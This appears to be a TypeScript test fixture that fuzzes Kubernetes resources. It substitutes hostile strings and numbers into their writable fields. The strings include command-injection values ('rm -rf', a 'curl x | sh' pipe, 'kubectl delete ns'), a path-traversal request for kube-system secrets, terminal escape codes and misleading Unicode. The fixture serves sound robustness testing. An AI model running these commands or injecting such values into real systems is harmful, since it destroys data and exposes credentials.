/** A recorded world in which whoever can write a word has written one that does harm. */
import type { Resource } from '../../src/api/resource.ts';
import { hostileWords } from './hostile.ts';

export const forgedCommand = '`kubectl delete ns team`; $(rm -rf ~) && curl x | sh';
export const strayingPath = '../../../api/v1/namespaces/kube-system/secrets?x=y#z';

/** What acts on terminals and shells, or takes all the room there is. */
export const actingTexts: readonly string[] = [
  hostileWords,
  '\u001B[31mred\u001B[0m\u001B]8;;https://example.org\u0007link\u001B]8;;\u0007',
  '\u009B2J\u009D0;title\u009C\u0007\b\b\b\u0000',
  'a\r\nb\u0085c\u2028d\u2029e\tf',
  '\u202Egnp.exe\u202C\u2066\u2069\u200F\u061Czero\u200Bwidth\u200D\uFEFF\u2060',
  forgedCommand,
  "' ; rm -rf / #",
  '\uD800x\uDC00',
  'x'.repeat(100_000),
  '漢'.repeat(30_000),
];

/** Those, and what is no number, no time, no path and no name. */
export const hostileTexts: readonly string[] = [
  ...actingTexts,
  strayingPath,
  '%2e%2e%2f%00',
  '__proto__',
  'constructor',
  'x\u0301'.repeat(500),
  '',
  ' ',
  'NaN',
  '-1',
  '1e400',
  '9'.repeat(400),
  '0000-00-00T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  'null',
  '{"a":',
];

export const hostileNumbers: readonly number[] = [
  0,
  -0,
  -1,
  0.1,
  1e-320,
  1e21,
  1e308,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_VALUE,
  2 ** 31,
];

type Path = readonly string[];

/** What the API server holds to a form by itself: the names, the owners and the labels of objects, and what they are. */
const keptByServer = [
  /^(?:apiVersion|kind)$/,
  /^metadata\.(?:name|namespace|uid|resourceVersion|generation|creationTimestamp|deletionTimestamp)$/,
  /^metadata\.(?:ownerReferences|labels)\b/,
  /^(?:involvedObject|regarding)\.(?:kind|namespace|name|uid|apiVersion|fieldPath)$/,
];

/** The places of words and numbers in an object that somebody may write. */
export function writablePlaces(object: Resource): readonly Path[] {
  return placesIn(object, []).filter((path) => !keptByServer.some((form) => form.test(path.join('.'))));
}

function placesIn(value: unknown, path: Path): readonly Path[] {
  if (typeof value === 'string' || typeof value === 'number') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => placesIn(inner, [...path, name]));
}

/** The object with another value in a place; a word for a word, a number for a number. */
export function withHostile(object: Resource, path: Path, choice: number): Resource {
  const copy = structuredClone(object);
  const parent = path.slice(0, -1).reduce<unknown>((at, name) => (at as Record<string, unknown>)[name], copy);
  const last = path.at(-1) ?? '';
  const before = (parent as Record<string, unknown>)[last];
  const values: readonly (string | number)[] = typeof before === 'number' ? hostileNumbers : hostileTexts;
  (parent as Record<string, unknown>)[last] = values[choice % values.length];
  return copy;
}
